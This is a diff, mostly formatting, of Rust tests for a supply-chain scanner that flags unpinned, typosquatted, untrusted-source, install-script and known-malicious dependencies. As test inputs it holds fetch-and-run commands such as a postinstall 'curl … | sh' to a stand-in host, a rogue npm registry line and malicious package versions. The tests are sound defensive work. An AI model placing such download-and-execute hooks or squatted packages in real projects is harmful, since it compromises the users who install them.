@@ -8,7 +8,10 @@ use serde_json::json;
 fn sup002_python_requirements() {
     // True positive: `requests` alone in requirements.txt.
     let f = stage5(&[("requirements.txt", "requests\n")], None, &[]);
-    assert_eq!(summarise(&f), vec![row("SUP-002", Medium, "requirements.txt", 1)]);
+    assert_eq!(
+        summarise(&f),
+        vec![row("SUP-002", Medium, "requirements.txt", 1)]
+    );
     assert_eq!(f[0].rule_type, "unpinned_dependency");
     assert_eq!(f[0].evidence.as_deref(), Some("requests"));
     assert_eq!(f[0].confidence, 0.9);
@@ -106,7 +109,8 @@ pytest = "*"
             row("SUP-002", Medium, "pyproject.toml", 18),
         ]
     );
-    let pipfile = "[packages]\nrequests = \"*\"\nflask = \"==3.0.0\"\n\n[dev-packages]\npytest = \"*\"\n";
+    let pipfile =
+        "[packages]\nrequests = \"*\"\nflask = \"==3.0.0\"\n\n[dev-packages]\npytest = \"*\"\n";
     assert_eq!(
         rows(&[("Pipfile", pipfile)]),
         vec![row("SUP-002", Medium, "Pipfile", 2)]
@@ -168,13 +172,19 @@ fn sup002_not_for_installer_lines() {
 #[test]
 fn sup003_typosquats() {
     let f = stage5(&[("requirements.txt", "reqeusts==2.31.0\n")], None, &[]);
-    assert_eq!(summarise(&f), vec![row("SUP-003", High, "requirements.txt", 1)]);
+    assert_eq!(
+        summarise(&f),
+        vec![row("SUP-003", High, "requirements.txt", 1)]
+    );
     assert_eq!(f[0].rule_type, "typosquatting");
     assert_eq!(f[0].evidence.as_deref(), Some("requests"));
     assert_eq!(f[0].confidence, 0.6);
     let pkg = r#"{"dependencies": {"lodaash": "4.17.21", "expres": "^4.0.0", "axioss": "~1.6.0"}}"#;
     let f = stage5(&[("package.json", pkg)], None, &[]);
-    let mut ev: Vec<_> = f.iter().map(|f| (f.rule_id, f.evidence.clone().unwrap())).collect();
+    let mut ev: Vec<_> = f
+        .iter()
+        .map(|f| (f.rule_id, f.evidence.clone().unwrap()))
+        .collect();
     ev.sort();
     assert_eq!(
         ev,
@@ -195,7 +205,10 @@ fn sup003_typosquats() {
     // Installer lines are checked too, scoped names within their scope.
     let md = "Run `pip install reqeusts` then `npm i @babel/preset-ennv`.\n";
     let f = stage5(&[("SKILL.md", md)], None, &[]);
-    let got: Vec<_> = f.iter().map(|f| (f.rule_id, f.severity, f.line, f.evidence.clone().unwrap())).collect();
+    let got: Vec<_> = f
+        .iter()
+        .map(|f| (f.rule_id, f.severity, f.line, f.evidence.clone().unwrap()))
+        .collect();
     assert_eq!(
         got,
         vec![
@@ -216,7 +229,10 @@ fn sup004_untrusted_sources() {
         None,
         &[],
     );
-    assert_eq!(summarise(&f), vec![row("SUP-004", High, "requirements.txt", 1)]);
+    assert_eq!(
+        summarise(&f),
+        vec![row("SUP-004", High, "requirements.txt", 1)]
+    );
     assert_eq!(f[0].rule_type, "untrusted_source");
     let pkg = "{\n  \"dependencies\": {\n    \"helper\": \"git+https://github.com/x/helper.git\",\n    \"local-lib\": \"file:./vendor/local-lib\"\n  }\n}";
     assert_eq!(
@@ -234,7 +250,10 @@ fn sup004_untrusted_sources() {
     );
     // `--trusted-host` on an installer line: high.
     let md = "```sh\n$ pip install --trusted-host pkgs.example x-tool==1.0\n```\n";
-    assert_eq!(rows(&[("README.md", md)]), vec![row("SUP-004", High, "README.md", 2)]);
+    assert_eq!(
+        rows(&[("README.md", md)]),
+        vec![row("SUP-004", High, "README.md", 2)]
+    );
 }
 
 #[test]
@@ -244,7 +263,11 @@ fn sup004_more_forms() {
 "a4": "file:../../outside", "a5": "workspace:*", "a6": "npm:lodash@^4.17.21", "a7": "link:./packages/a7"
 }}"#;
     let got = rows(&[("web/package.json", pkg)]);
-    assert_eq!(got.iter().filter(|r| r.0 == "SUP-004").count(), 4, "{got:?}");
+    assert_eq!(
+        got.iter().filter(|r| r.0 == "SUP-004").count(),
+        4,
+        "{got:?}"
+    );
     assert!(got.iter().all(|r| r.1 == High));
     let req = "-e git+https://github.com/x/y.git#egg=y\nhttps://x.example/pkg-1.0.tar.gz\n\
                pkg @ git+https://github.com/x/pkg\n./vendor/local\n../../outside\n\
@@ -258,7 +281,10 @@ fn sup004_more_forms() {
     let npmrc = "registry=https://npm.evil.example/\n@corp:registry=https://npm.corp.example/\nregistry=https://registry.npmjs.org/\n";
     assert_eq!(
         rows(&[(".npmrc", npmrc)]),
-        vec![row("SUP-004", High, ".npmrc", 1), row("SUP-004", High, ".npmrc", 2)]
+        vec![
+            row("SUP-004", High, ".npmrc", 1),
+            row("SUP-004", High, ".npmrc", 2)
+        ]
     );
     assert_eq!(
         rows(&[(".yarnrc", "registry \"https://r.example\"\n")]),
@@ -298,18 +324,36 @@ fn sup004_command_strings_of_agent_and_ide_files() {
 fn sup005_install_scripts() {
     let pkg = "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.example/p.sh | sh\",\n    \"test\": \"vitest\",\n    \"build\": \"tsc\"\n  }\n}";
     let f = stage5(&[("package.json", pkg)], None, &[]);
-    assert_eq!(summarise(&f), vec![row("SUP-005", Critical, "package.json", 3)]);
+    assert_eq!(
+        summarise(&f),
+        vec![row("SUP-005", Critical, "package.json", 3)]
+    );
     assert_eq!(f[0].rule_type, "install_script");
-    assert!(f[0].message.contains("pipes a download"), "{}", f[0].message);
-    assert!(f[0].evidence.as_deref().unwrap().starts_with("\"postinstall\": \"curl"));
+    assert!(
+        f[0].message.contains("pipes a download"),
+        "{}",
+        f[0].message
+    );
+    assert!(
+        f[0].evidence
+            .as_deref()
+            .unwrap()
+            .starts_with("\"postinstall\": \"curl")
+    );
     // Not a finding: ordinary scripts.
     let ok = r#"{"scripts": {"test": "vitest", "build": "tsc", "start": "node index.js"}}"#;
     assert!(rows(&[("package.json", ok)]).is_empty());
     // Plain install scripts: high; prepare: medium.
     let pkg = r#"{"scripts": {"preinstall": "node check.js", "prepare": "husky install", "install": "node-gyp rebuild"}}"#;
-    let mut got: Vec<_> = rows(&[("package.json", pkg)]).into_iter().map(|r| (r.1, r.3)).collect();
+    let mut got: Vec<_> = rows(&[("package.json", pkg)])
+        .into_iter()
+        .map(|r| (r.1, r.3))
+        .collect();
     got.sort();
-    assert_eq!(got, vec![(High, Some(1)), (High, Some(1)), (Medium, Some(1))]);
+    assert_eq!(
+        got,
+        vec![(High, Some(1)), (High, Some(1)), (Medium, Some(1))]
+    );
     // Critical variants: `bash -c "$(curl …)"`, `wget -qO- … | sudo bash -s`, approval-bypassing agent CLI.
     for s in [
         r#"bash -c \"$(curl -fsSL https://x.example/i.sh)\""#,
@@ -325,7 +369,8 @@ fn sup005_install_scripts() {
         );
     }
     // A download without a pipe to an interpreter stays high.
-    let pkg = r#"{"scripts": {"postinstall": "curl -o data.json https://x.example/d && node build.js"}}"#;
+    let pkg =
+        r#"{"scripts": {"postinstall": "curl -o data.json https://x.example/d && node build.js"}}"#;
     assert_eq!(rows(&[("package.json", pkg)])[0].1, High);
 }
 
@@ -339,27 +384,56 @@ fn sup005_setup_py() {
                setup(name='x')\n";
     let f = stage5(&[("setup.py", src)], None, &[]);
     let got: Vec<_> = f.iter().map(|f| (f.severity, f.line)).collect();
-    assert_eq!(got, vec![(Critical, Some(5)), (High, Some(6)), (High, Some(14))]);
-    assert!(f[1].message.contains("subprocess.check_call"), "{}", f[1].message);
+    assert_eq!(
+        got,
+        vec![(Critical, Some(5)), (High, Some(6)), (High, Some(14))]
+    );
+    assert!(
+        f[1].message.contains("subprocess.check_call"),
+        "{}",
+        f[1].message
+    );
     assert_eq!(f[1].evidence.as_deref(), Some("cc(['make', 'all'])"));
     // Not a finding: a plain setup() call, and `print` of an install hint.
-    let ok = "from setuptools import setup\nprint('run: curl x | sh')\nsetup(name='x', version='1.0')\n";
+    let ok =
+        "from setuptools import setup\nprint('run: curl x | sh')\nsetup(name='x', version='1.0')\n";
     assert!(rows(&[("setup.py", ok)]).is_empty());
 }
 
 #[test]
 fn sup006_known_malicious() {
     let f = stage5(
-        &[("package.json", "{\"dependencies\": {\n\"event-stream\": \"3.3.6\"}}")],
+        &[(
+            "package.json",
+            "{\"dependencies\": {\n\"event-stream\": \"3.3.6\"}}",
+        )],
         None,
         &[],
     );
-    assert_eq!(summarise(&f), vec![row("SUP-006", Critical, "package.json", 2)]);
+    assert_eq!(
+        summarise(&f),
+        vec![row("SUP-006", Critical, "package.json", 2)]
+    );
     assert_eq!(f[0].rule_type, "known_malicious");
-    assert_eq!(f[0].evidence.as_deref(), Some("\"event-stream\": \"3.3.6\""));
+    assert_eq!(
+        f[0].evidence.as_deref(),
+        Some("\"event-stream\": \"3.3.6\"")
+    );
     // Not a finding: the clean release, and a range that merely includes the bad one.
-    assert!(rows(&[("package.json", r#"{"dependencies": {"event-stream": "4.0.1"}}"#)]).is_empty());
-    assert!(rows(&[("package.json", r#"{"dependencies": {"event-stream": "^3.3.4"}}"#)]).is_empty());
+    assert!(
+        rows(&[(
+            "package.json",
+            r#"{"dependencies": {"event-stream": "4.0.1"}}"#
+        )])
+        .is_empty()
+    );
+    assert!(
+        rows(&[(
+            "package.json",
+            r#"{"dependencies": {"event-stream": "^3.3.4"}}"#
+        )])
+        .is_empty()
+    );
     assert_eq!(
         rows(&[("requirements.txt", "ctx==0.2.2\n")]),
         vec![row("SUP-006", Critical, "requirements.txt", 1)]
@@ -370,7 +444,11 @@ fn sup006_known_malicious() {
     );
     // npm aliases resolve to the real package.
     assert_eq!(
-        rows(&[("package.json", r#"{"dependencies": {"es": "npm:event-stream@3.3.6"}}"#)]).len(),
+        rows(&[(
+            "package.json",
+            r#"{"dependencies": {"es": "npm:event-stream@3.3.6"}}"#
+        )])
+        .len(),
         1
     );
 }
@@ -384,12 +462,19 @@ fn sup006_file_hash_with_operator_entry() {
         super::super::load_extra_blocklist(&format!("# operator list\nsha256:{h}\n")),
         Ok(1)
     );
-    let f = stage5(&[("bin/tool.dat", payload), ("other.txt", "clean\n")], None, &[]);
+    let f = stage5(
+        &[("bin/tool.dat", payload), ("other.txt", "clean\n")],
+        None,
+        &[],
+    );
     assert_eq!(
         summarise(&f),
         vec![("SUP-006", Critical, Some("bin/tool.dat".to_string()), None)]
     );
-    assert_eq!(f[0].evidence.as_deref(), Some(format!("sha256:{h}").as_str()));
+    assert_eq!(
+        f[0].evidence.as_deref(),
+        Some(format!("sha256:{h}").as_str())
+    );
 }
 
 #[test]
@@ -398,11 +483,23 @@ fn sup007_skill_name_squats() {
         let m = json!({"name": n, "version": "1.0.0"});
         summarise(&stage5(&[("SKILL.md", "# x\n")], Some(&m), &[]))
     };
-    for tp in ["clawhubb", "googel-workspace", "skill-creator2", "@evil/skill-creator2"] {
+    for tp in [
+        "clawhubb",
+        "googel-workspace",
+        "skill-creator2",
+        "@evil/skill-creator2",
+    ] {
         assert_eq!(name(tp), vec![("SUP-007", High, None, None)], "{tp}");
     }
     // Not a finding: another name, the same name in another scope, a letter substitution.
-    for tn in ["github-actions-helper", "@acme/notion", "clause", "githubs", "stripe", "docker2"] {
+    for tn in [
+        "github-actions-helper",
+        "@acme/notion",
+        "clause",
+        "githubs",
+        "stripe",
+        "docker2",
+    ] {
         // `docker2`: docker is protected but has 6 letters — one added is a squat.
         let want = if tn == "docker2" { 1 } else { 0 };
         assert_eq!(name(tn).len(), want, "{tn}");
